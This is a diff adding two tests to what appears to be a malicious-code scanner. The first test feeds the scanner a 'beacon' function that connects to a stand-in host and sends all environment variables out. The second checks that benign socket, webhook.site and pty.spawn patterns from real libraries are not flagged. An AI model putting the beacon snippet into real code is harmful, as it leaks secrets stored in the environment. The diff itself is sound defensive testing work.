@@ -689,3 +689,37 @@ def test_deep_nesting_does_not_crash() -> None:
     assert isinstance(analyse_file("pkg/deep.py", deep.encode()), list)
     parens = "x = " + "(" * 400 + "1" + ")" * 400 + "\n"
     assert isinstance(analyse_file("pkg/deep.py", parens.encode()), list)
+
+
+def test_socket_send_of_environment() -> None:
+    findings = run(
+        "pkg/net.py",
+        """
+        import json, os, socket
+
+        def beacon():
+            s = socket.create_connection(("example.invalid", 443))
+            s.sendall(json.dumps(dict(os.environ)).encode())
+        """,
+    )
+    assert at(findings, "exfiltration", 5).severity == Severity.HIGH
+
+
+def test_seen_in_real_libraries_stays_quiet() -> None:
+    # urllib3: probing IPv6 support with a socket at import; rich: a guarded demo;
+    # disposable-email-domains: a domain list that includes webhook.site
+    source = """
+    import socket, sys, pty
+
+    def _has_ipv6(host):
+        sock = socket.socket(socket.AF_INET6)
+        sock.bind((host, 0))
+        return True
+
+    HAS_IPV6 = _has_ipv6("::1")
+    blocklist = {"webhook.site", "mailinator.com"}
+
+    if sys.platform != "win32" and __name__ == "__main__":
+        pty.spawn(sys.argv[1:])
+    """
+    assert loud(run("pkg/util/connection.py", source)) == []
